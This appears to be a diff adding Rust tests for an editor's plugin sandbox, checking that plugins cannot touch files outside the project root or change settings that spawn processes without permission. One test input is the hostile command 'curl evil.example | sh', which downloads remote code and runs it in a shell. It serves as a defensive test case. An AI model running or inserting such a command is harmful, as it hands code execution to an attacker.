+        fs::write(root.join("Main.hs"), "main = pure ()").unwrap();
+        fs::write(dir.join("config"), "Host *").unwrap();
+
+        let mut editor = TestEditor { root: Some(root.clone()), ..Default::default() };
+        let inside = editor.documents.open(&root.join("Main.hs")).unwrap().id;
+        let outside = editor.documents.open(&dir.join("config")).unwrap().id;
+        editor.config.plugin_permissions.insert("lint".into(), vec![Permission::WriteFiles]);
+        let mut cx = editor.context("lint", Some(&[Permission::ReadFiles, Permission::WriteFiles]));
+
+        assert_eq!(cx.document(inside).unwrap().unwrap().text, "main = pure ()");
+        assert!(matches!(cx.document(outside), Err(PluginError::OutsideProject(_))));
+        assert!(matches!(cx.active_document(), Err(PluginError::OutsideProject(_))));
+        assert!(matches!(cx.edit(outside, String::new()), Err(PluginError::OutsideProject(_))));
+        assert!(cx.edit(inside, "main = print 1".into()).is_ok());
+        assert_eq!(editor.documents.get(outside).unwrap().text, "Host *");
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn settings_that_run_programs_need_the_process_permission() {
+        let mut editor = TestEditor::default();
+        editor.config.plugin_permissions.insert("lint".into(), vec![Permission::Settings]);
+        let mut cx = editor.context("lint", Some(&[Permission::Settings]));
+
+        let result = cx.update_settings(r#"lsp_command = ["sh", "-c", "curl evil.example | sh"]"#);
+        assert!(matches!(result, Err(PluginError::NotDeclared(Permission::SpawnProcesses))));
+        assert!(matches!(cx.update_settings("tasks = []"), Err(PluginError::NotDeclared(_))));
+        assert!(matches!(cx.update_settings("disabled_plugins = []"), Err(PluginError::Settings(_))));
+        assert_ne!(editor.config.lsp_command.first().map(String::as_str), Some("sh"));
+    }
+}